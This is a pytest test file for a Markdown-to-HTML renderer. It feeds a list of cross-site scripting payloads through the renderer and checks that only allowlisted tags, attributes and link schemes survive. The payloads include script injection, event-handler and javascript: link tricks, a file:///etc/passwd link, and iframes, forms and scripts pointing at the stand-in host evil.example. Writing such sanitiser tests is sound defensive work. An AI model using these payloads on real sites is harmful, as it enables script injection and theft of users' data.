"""Does Markdown become the HTML that it means, and never anything that could harm its reader?"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from ui.rendering import to_html

SAFE_TAGS = {"p", "br", "strong", "em", "ul", "ol", "li", "h2", "h3", "h4", "h5", "a", "code", "blockquote", "hr"}
SAFE_ATTRIBUTES = {"href", "target", "rel", "start"}
SAFE_SCHEMES = ("http://", "https://", "mailto:", "tel:")


class Reader(HTMLParser):
    """Reads HTML as a browser does, and keeps every tag and attribute."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def read(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.tags


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1)>press</p>",
    '<a href="javascript:alert(1)">press</a>',
    "[press](javascript:alert(1))",
    "[press](JaVaScRiPt:alert(1))",
    "[press](java\tscript:alert(1))",
    "[press](&#106;avascript:alert(1))",
    "[press](&#x6A;avascript&colon;alert(1))",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[press](vbscript:msgbox(1))",
    "[press](file:///etc/passwd)",
    "[press](//evil.example/)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[press]: javascript:alert(1)\n\n[press]",
    '[press](https://a.example/"onmouseover="alert(1))',
    "[press](https://a.example '\" onmouseover=\"alert(1)')",
    "![look](https://evil.example/pixel.png)",
    "![look](data:image/svg+xml;base64,PHN2Zy8+)",
    "<svg onload=alert(1)></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>press</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<style>body{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input name=hkid></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "`<img src=x onerror=alert(1)>`",
    "```\n</code><img src=x onerror=alert(1)>\n```",
    "# <img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "\u0000<script>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_dangerous_comes_out(attack: str) -> None:
    for tag, attributes in read(to_html(attack)):
        assert tag in SAFE_TAGS
        assert set(attributes) <= SAFE_ATTRIBUTES
        if "href" in attributes:
            assert str(attributes["href"]).startswith(SAFE_SCHEMES)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_cleaned_stays_clean_inside_other_text(attack: str) -> None:
    harmless = {tag for tag, _ in read(to_html(f"Bring this.\n\n- {attack}\n\n> {attack}\n"))}
    assert harmless <= SAFE_TAGS


# What it means


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("Bring **form IM 20**.", "<p>Bring <strong>form IM 20</strong>.</p>\n"),
        ("請攜同**表格IM 20**。", "<p>請攜同<strong>表格IM 20</strong>。</p>\n"),
        ("请携带**表格IM 20**。", "<p>请携带<strong>表格IM 20</strong>。</p>\n"),
    ],
    ids=["en", "zh-Hant", "zh-Hans"],
)
def test_bold_words_stay_bold(markdown: str, html: str) -> None:
    assert to_html(markdown) == html


def test_a_list_stays_a_list() -> None:
    assert [tag for tag, _ in read(to_html("- one\n- two"))] == ["ul", "li", "li"]


def test_a_numbered_list_keeps_its_first_number() -> None:
    assert ("ol", {"start": "3"}) in read(to_html("3. three\n4. four"))


def test_a_line_break_is_kept() -> None:
    assert to_html("one\ntwo") == "<p>one<br>\ntwo</p>\n"


def test_the_highest_heading_leaves_the_pages_own_title_alone() -> None:
    assert [tag for tag, _ in read(to_html("# Fees\n\n## Licences"))] == ["h2", "h2"]


@pytest.mark.parametrize(
    "address", ["https://www.chingwan.example/a?b=1&c=2", "mailto:td@chingwan.example", "tel:1866"]
)
def test_a_link_opens_elsewhere_and_tells_nothing_of_where_it_was_followed(address: str) -> None:
    [_, (tag, attributes)] = read(to_html(f"[here]({address})"))
    assert (tag, attributes["href"], attributes["target"]) == ("a", address, "_blank")
    assert attributes["rel"] == "noopener noreferrer"


def test_text_that_only_looks_like_markup_can_be_read() -> None:
    assert to_html("fees < $5 & > $3") == "<p>fees &lt; $5 &amp; &gt; $3</p>\n"


def test_nothing_becomes_nothing() -> None:
    assert to_html("") == ""


def test_a_table_is_shown_as_one() -> None:
    shown = to_html("| Kind | Fee |\n| --- | --- |\n| Full | $900 |").replace("\n", "")
    head = "<table><thead><tr><th>Kind</th><th>Fee</th></tr></thead>"
    assert shown == f"{head}<tbody><tr><td>Full</td><td>$900</td></tr></tbody></table>"
